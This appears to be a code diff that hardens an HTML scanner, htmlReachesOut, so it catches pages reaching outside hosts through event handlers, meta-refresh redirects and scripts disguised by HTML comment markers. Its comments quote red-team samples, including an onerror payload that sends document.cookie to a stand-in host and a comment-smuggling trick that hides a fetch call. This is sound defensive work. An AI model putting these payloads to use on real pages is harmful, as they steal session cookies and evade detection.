@@ -77,8 +77,16 @@ export function htmlReachesOut(html: string): string[] {
   const page = html.replace(/<!--[\s\S]*?-->/g, ' ');
   for (const t of page.matchAll(TAG)) {
     const tag = t[1]!.toLowerCase();
-    if (!LOADING_TAGS.has(tag)) continue;
     const attrs = [...t[2]!.matchAll(ATTR)];
+    // red team 17: an event handler is inline script (`<img src=x onerror="fetch('https://h/'+document.cookie)">`), and
+    // a refresh <meta> navigates by itself
+    for (const a of attrs) if (/^on[a-z]+$/i.test(a[1]!)) for (const h of scriptHosts(decodeRefs(a[2] ?? a[3] ?? a[4] ?? ''))) out.add(h);
+    if (tag === 'meta' && attrs.some((a) => a[1]!.toLowerCase() === 'http-equiv' && /^\s*refresh\s*$/i.test(a[2] ?? a[3] ?? a[4] ?? ''))) {
+      const content = decodeRefs(attrs.find((a) => a[1]!.toLowerCase() === 'content')?.slice(2).find((v) => v !== undefined) ?? '');
+      const h = ABSOLUTE.exec(content.replace(/^[^;]*;\s*(?:url\s*=\s*)?['"]?/i, '').trim());
+      if (h) out.add((h[1] ?? h[2])!.toLowerCase());
+    }
+    if (!LOADING_TAGS.has(tag)) continue;
     if (tag === 'link') {
       // a style sheet or font (Sphinx themes load Google Fonts) is no program; a module, an HTML import or a script
       // preloaded is
@@ -93,7 +101,9 @@ export function htmlReachesOut(html: string): string[] {
       if (h) out.add((h[1] ?? h[2])!.toLowerCase());
     }
   }
-  for (const m of page.matchAll(/<script\b((?:[^>"']|"[^"]*"|'[^']*')*)>([\s\S]*?)<\/script\s*>/gi)) {
+  // scripts are read from the page as written: `<!--` inside a script's text opens no HTML comment (red team 17:
+  // `var a = "<!--"; fetch("https://h"); var b = "-->"` was taken for one)
+  for (const m of html.matchAll(/<script\b((?:[^>"']|"[^"]*"|'[^']*')*)>([\s\S]*?)<\/script\s*>/gi)) {
     if (/\bsrc\s*=/i.test(m[1]!)) continue;
     for (const h of scriptHosts(m[2]!)) out.add(h);
   }
